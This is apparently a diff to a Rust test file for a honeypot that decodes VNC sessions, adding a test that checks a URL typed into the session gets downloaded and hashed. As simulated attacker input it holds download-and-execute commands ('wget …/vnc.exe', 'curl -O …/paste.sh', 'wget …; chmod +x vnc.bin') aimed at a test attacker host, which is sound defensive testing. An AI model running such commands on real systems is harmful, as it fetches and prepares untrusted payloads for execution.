@@ -6,7 +6,9 @@
 //! payload the decoded bytes). Every event is validated against
 //! docs/event.schema.json by the harness. Also: a decoded copy that is encoded
 //! again is decoded again (base64 of UTF-16LE, PowerShell's `-enc`), with the
-//! second decoder's finding on the real attack, sourced to the first copy.
+//! second decoder's finding on the real attack, sourced to the first copy. And the
+//! VNC part of the downloaders: a URL typed into an RFB session is fetched from a
+//! real HTTP server (python3 http.server in the attacker namespace).
 
 mod support;
 
@@ -312,16 +314,10 @@ fn key(out: &mut Vec<u8>, sym: u32) {
     }
 }
 
-#[test]
-fn vnc_typed_and_pasted_text() {
-    if !require_root() {
-        return;
-    }
-    let net = NetPair::new("decvnc");
-    let mut d = Daemon::start(&net, &config());
-    // The client's side of an RFB 3.8 session, byte by byte: version, security
-    // None, ClientInit (shared), SetPixelFormat, SetEncodings, an update request,
-    // a pointer move, then typed and pasted text.
+/// The client's side of an RFB 3.8 session, byte by byte: version, security None,
+/// ClientInit (shared), SetPixelFormat, SetEncodings, an update request, a pointer
+/// move. Typed and pasted text follow.
+fn rfb_session_start() -> Vec<u8> {
     let mut s = b"RFB 003.008\n".to_vec();
     s.extend([1, 1]);
     s.extend([
@@ -330,17 +326,29 @@ fn vnc_typed_and_pasted_text() {
     s.extend([2, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 1]);
     s.extend([3, 0, 0, 0, 0, 0, 4, 0, 3, 0]);
     s.extend([5, 0, 0, 10, 0, 20]);
+    s
+}
+
+fn type_text(s: &mut Vec<u8>, text: &str) {
+    for c in text.chars() {
+        key(s, if c == '\n' { 0xff0d } else { c as u32 });
+    }
+}
+
+#[test]
+fn vnc_typed_and_pasted_text() {
+    if !require_root() {
+        return;
+    }
+    let net = NetPair::new("decvnc");
+    let mut d = Daemon::start(&net, &config());
+    let mut s = rfb_session_start();
     let typed = format!("wget http://{}/vnc.exe", net.at_v4);
-    for c in typed.chars() {
-        key(&mut s, c as u32);
-    }
+    type_text(&mut s, &typed);
     key(&mut s, 0xff0d); // Return
-    for c in "ftq".chars() {
-        key(&mut s, c as u32);
-    }
+    type_text(&mut s, "ftq");
     key(&mut s, 0xff08); // BackSpace
-    key(&mut s, 'p' as u32);
-    key(&mut s, 0xff0d);
+    type_text(&mut s, "p\n");
     let pasted = format!("curl -O http://{}/paste.sh", net.at_v4);
     s.extend([6, 0, 0, 0]);
     s.extend((pasted.len() as u32).to_be_bytes());
@@ -356,5 +364,56 @@ fn vnc_typed_and_pasted_text() {
         String::from_utf8(payload(&v)).unwrap(),
         format!("{typed}\nftp\n{pasted}")
     );
+    assert!(d.stop().success());
+}
+
+#[test]
+fn vnc_typed_url_is_downloaded() {
+    if !require_root() {
+        return;
+    }
+    assert!(
+        Path::new("/usr/bin/python3").exists(),
+        "python3 is needed for the HTTP server"
+    );
+    let net = NetPair::new("decvncdl");
+    let served = tempfile::tempdir().unwrap();
+    let sample: Vec<u8> = (0..5000u32).map(|i| (i * 31 % 251) as u8).collect();
+    std::fs::write(served.path().join("vnc.bin"), &sample).unwrap();
+    let log = served.path().join("http.log");
+    let _server = net.background_attacker(&format!(
+        "cd {} && exec /usr/bin/python3 -m http.server 8000 --bind {} 2>{}",
+        served.path().display(),
+        net.at_v4,
+        log.display()
+    ));
+    support::clients::wait_listening(&net.attacker, "tcp", 8000, 1);
+    let conf = format!("{}\n[downloads]\nallow = [\"10.77.0.0/16\"]\n", config());
+    let mut d = Daemon::start(&net, &conf);
+    let url = format!("http://{}:8000/vnc.bin", net.at_v4);
+    let mut s = rfb_session_start();
+    type_text(&mut s, &format!("cd /tmp; wget {url}; chmod +x vnc.bin\n"));
+    nc_once(&net, &net.hp_v4, 5900, &s);
+    let e = real_event(&d, b"RFB 003.008\n");
+    let v = virtual_event(&d, &e, "vnc");
+    let dl = e["honeytrap"]["downloads"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|x| x["url"] == url.as_str())
+        .unwrap_or_else(|| panic!("no download of {url}: {e:#}"))
+        .clone();
+    assert_eq!(dl["error"], Value::Null, "{dl:#}");
+    assert_eq!(dl["size"], sample.len());
+    assert_eq!(
+        dl["hashes"]["sha256"],
+        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&sample))
+    );
+    // Found on the typed text, not on the raw session.
+    assert_eq!(dl["source"]["kind"], "virtual");
+    assert_eq!(dl["source"]["id"], v["honeytrap"]["attack_id"]);
+    assert_eq!(v["honeytrap"]["downloads"][0]["url"], url.as_str());
+    let requests = std::fs::read_to_string(&log).unwrap_or_default();
+    assert!(requests.contains("GET /vnc.bin"), "server log: {requests}");
     assert!(d.stop().success());
 }
